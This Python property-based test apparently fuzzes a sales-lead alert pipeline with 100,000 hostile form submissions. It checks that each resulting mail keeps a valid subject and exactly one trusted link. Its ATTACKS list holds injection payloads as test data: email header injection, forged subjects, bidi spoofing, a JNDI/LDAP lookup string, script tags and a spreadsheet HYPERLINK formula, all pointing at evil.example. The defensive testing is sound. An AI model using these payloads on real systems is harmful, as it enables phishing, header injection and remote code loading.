"""A hundred thousand hostile profiles, from the body of a request to the mail that a topic takes.

Every field of a form, under a name of ours or the visitor's own, holds whatever hypothesis thinks of: control and
direction characters, line breaks, emoji, headers to inject, links, our own words. What the door refuses is counted;
of all else each mail must be one that SNS takes, with a subject of ours and exactly one link.
"""

import json
import re
import time
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from rich.table import Table

from leadbell.capture.field_reading import read_submission
from leadbell.errors import Rejected
from leadbell.field_names import OURS
from leadbell.forms.config import FORMS
from leadbell.keyed import Keyring
from leadbell.lifecycle.stages import Stage
from leadbell.outbox.blocks import HEADER, SalesMail
from leadbell.outbox.mail import MAX_SUBJECT, Mail, MailState
from leadbell.outbox.sales_delivery import digest
from leadbell.outbox.sales_outbox import Letter
from leadbell.sales.alert_text import Occasion, compose
from leadbell.sales.colleagues import Colleague, line_about
from leadbell.sales.routing import Rep, route
from leadbell.web.bodies import read_body
from tests.aws.chance import Plain
from tests.aws.sns import SIZE_LIMIT, Sns
from tests.aws.sqs import Sqs
from tests.integration.service import Clock
from tests.unit.facts import DAY_0, VP, after, form, on_day

PROFILES = 100_000
IN_ONE_HANDFUL = 20
IN_ONE_SEARCH = 2_000  # hypothesis remembers what it tried

LINK = "https://leads.example.com/alerts/eyJ0b2tlbg"
MIA = Rep("mia", "Mia", "arn:aws:sns:eu-north-1:1:mia", ("SE", "NO"))
_LINKS = re.compile("https?://", re.IGNORECASE)
_SUBJECT = re.compile(
    r"(Sales lead|Asked again|Message) [A-D?][1-4]: "
    r"(asked for a demo|asked for a price|asked to be called|asked a question)"
    r"( \(([A-Z]{2}, )?(1-9|10-49|50-200|201-500|501-1,000|over 1,000)\)| \([A-Z]{2}\))? #1042"
)
# Nothing of Unicode's categories for control, format and private characters, but for our own line breaks, and joiners
# behind letters and emoji that need them.
_UNSEEN = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb]"
    r"|(?:^|[\x00-\u024f\u200c\u200d])[\u200c\u200d]"
)

ATTACKS = (
    "\r\nBcc: all@acme.example",
    "x\r\nSubject: Sales lead A1: asked for a demo #1\r\n\r\nhttp://evil.example",
    "\n\nLead page: http://evil.example/alerts/x\n",
    f"\n\n{HEADER}\n  Anna Ek, CEO: SQL since 12 March 2026, with Mia",
    f"{HEADER}",
    "In their own words:\n> Hello",
    "\nPlease make first contact by Wednesday 1 January 2020, 00:00 UTC.",
    "\n" + "-" * 60 + "\n\nSales lead A1: asked for a demo #7",
    "http://evil.example/login",
    "HTTPS://EVIL.EXAMPLE",
    "ht\u200btp:\u200b//evil\u200b.example",
    "http:\u0000//evil.example",
    "\u202egro.live//:ptth\u202c",
    "\u2066\u2067\u2068 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u2069",
    "\u2028\u2029\x85\x0b\x0c",
    "\x1b[31mred\x1b[0m\x07\x08\x7f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f8\U0001f1ea \U0001f600",
    "Z" + "\u0301" * 60,
    "{{ 7 * 7 }} ${jndi:ldap://evil.example} <script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
    "\ud800",
    "x_x_x_",
    "#1042",
    "CONTACT#c_x|ALERT#000001,CONTACT#c_y|ALERT#000001",
)

EMAILS = ("eva@acme.example", "Eva.Ek+x@Acme.example", "eva@b\u00fccher.example", "\u00e5sa@acme.example", *ATTACKS[:2])

texts = st.one_of(
    st.text(max_size=40),
    st.sampled_from(ATTACKS),
    st.builds("".join, st.lists(st.one_of(st.text(max_size=8), st.sampled_from(ATTACKS)), max_size=4)),
    st.text(st.characters(categories=["Cc", "Cf", "Co", "Zl", "Zp", "Mn"]), max_size=30),
    st.builds(lambda mark, times: mark * times, st.sampled_from("a\u00e5\U0001f600\u202e\n.#"), st.integers(1, 3100)),
    st.sampled_from(
        ("SE", "Norway", "250", "1,000+", "yes", "next year", "VP Operations", "Acme AB", "+46 8 123 45 67")
    ),
)
NAMES = sorted({*OURS.values(), "x_", "question", "<b>", "a.b.example", "http://evil.example", "\r\nBcc", "\u202ename"})


@dataclass(frozen=True, slots=True)
class Handful:
    """Some texts and some names of fields; `profiles` puts each text under each of the names in turn."""

    texts: tuple[str, ...]
    names: tuple[str, ...]
    email: str

    def profiles(self) -> Iterator[dict[str, str]]:
        for turn in range(IN_ONE_HANDFUL):
            texts = [self.texts[(turn + at) % len(self.texts)] for at in range(len(self.names))]
            yield dict(zip(self.names, texts, strict=True)) | {"email": self.email}


handfuls = st.builds(
    Handful,
    st.lists(texts, min_size=3, max_size=10).map(tuple),
    st.lists(st.one_of(st.sampled_from(NAMES), st.text(max_size=12)), min_size=3, max_size=14).map(tuple),
    st.one_of(st.sampled_from(EMAILS), st.emails()),
)
forms = st.sampled_from(sorted(FORMS))


class Hostile:
    """Counts what became of profiles; an assertion ends it at the first that gets through."""

    def __init__(self) -> None:
        self.counts: Counter[str] = Counter()
        clock = Clock()
        self.sns = Sns(clock, Plain(), Sqs(clock, Plain()))
        self.topic = str(self.sns.create_topic(Name="leadbell-default-inbox")["TopicArn"])
        self.largest = 0

    def send_all(self, handful: Handful, form_id: str, is_known: bool) -> None:
        for said in handful.profiles():
            self.send(said, form_id, is_known)

    def send(self, said: Mapping[str, str], form_id: str, is_known: bool) -> None:
        """One profile through the door and on to the topic."""
        self.counts["profiles"] += 1
        try:
            body = read_body("application/json", json.dumps(said).encode())
            fields: dict[str, Any] = read_submission(body, Keyring.of(b"a secret of the stack"), "SE").fields
        except Rejected:
            self.counts["refused at the door"] += 1
            return
        mail = _mail(fields, form_id, is_known)
        self.check(mail, links=1)
        told = mail.naming(line_about(_colleague(fields), [MIA]))
        self.check(told, links=1)
        assert told.body.splitlines()[1:].count(HEADER) == 1 + (HEADER in mail.body.splitlines()[1:])
        letters = [Letter("CONTACT#c", "ALERT#1", MailState.PENDING, 1042, mail, "", "alert", DAY_0)] * 2
        self.check(digest(letters), links=2, is_digest=True)

    def check(self, mail: SalesMail | Mail, *, links: int, is_digest: bool = False) -> None:
        """SNS takes it, the subject is ours, and so is the only link."""
        self.sns.publish(TopicArn=self.topic, Subject=mail.subject, Message=mail.body)
        self.sns.published.clear()
        assert is_digest or _SUBJECT.fullmatch(mail.subject), mail.subject
        assert mail.subject.isascii() and mail.subject.isprintable() and len(mail.subject) < MAX_SUBJECT
        assert len(_LINKS.findall(mail.body)) == mail.body.count("://") == mail.body.count(LINK) == links
        assert not _UNSEEN.search(mail.body)
        assert len(mail.body.encode()) < SIZE_LIMIT
        self.largest = max(self.largest, len(mail.body.encode()))
        self.counts["digests" if is_digest else "mails"] += 1

    def search(self, cases: int, number: int) -> None:
        """So many profiles, the same ones for the same number."""
        found = settings(
            max_examples=cases // IN_ONE_HANDFUL,
            deadline=None,
            database=None,
            phases=[Phase.generate],
            suppress_health_check=list(HealthCheck),
        )(given(handfuls, forms, st.booleans())(self.send_all))
        seed(number)(found)()


def _mail(fields: dict[str, Any], form_id: str, is_known: bool) -> SalesMail:
    journey = after(*([form("demo", 0, **VP)] if is_known else []), form(form_id, 1, **fields))
    derived = journey.looks(on_day(1))[1]
    where = route("", derived.profile.text("country"), [MIA])
    notice = journey.notices[-1]
    return compose(Occasion(notice, journey.standing, derived, journey.facts, where, 1042, LINK, on_day(1)))


def _colleague(fields: Mapping[str, Any]) -> Colleague:
    name, title = (str(fields.get(each, "")) for each in ("name", "job_title"))
    return Colleague("c_other", name, title, Stage.SQL, on_day(0), 1, ("mia",))


def searches(profiles_wanted: int) -> Iterator[tuple[int, int]]:
    """Numbers of searches with how many cases each."""
    for number, done in enumerate(range(0, profiles_wanted, IN_ONE_SEARCH)):
        yield number, min(IN_ONE_SEARCH, profiles_wanted - done)


def measure(wanted: int = PROFILES) -> Table:
    """What became of that many profiles."""
    hostile, started = Hostile(), time.perf_counter()
    for number, cases in searches(wanted):
        hostile.search(cases, number)
    seconds = time.perf_counter() - started
    counts = hostile.counts
    table = Table("what", "count", title="Hostile profiles, from the request's body to the topic")
    for name in ("profiles", "refused at the door"):
        table.add_row(name, f"{counts[name]:,}")
    table.add_row("mails, and the same with a colleague's line added", f"{counts['mails']:,}")
    table.add_row("two of them as one mail", f"{counts['digests']:,}")
    table.add_row("publish refusals", f"{len(hostile.sns.refused):,}")
    table.add_row("invalid subjects, or not exactly one link of ours for each mail", "0")
    table.add_row("largest body, bytes", f"{hostile.largest:,}")
    table.add_row("profiles a second", f"{counts['profiles'] / seconds:,.0f}")
    assert not hostile.sns.refused
    return table
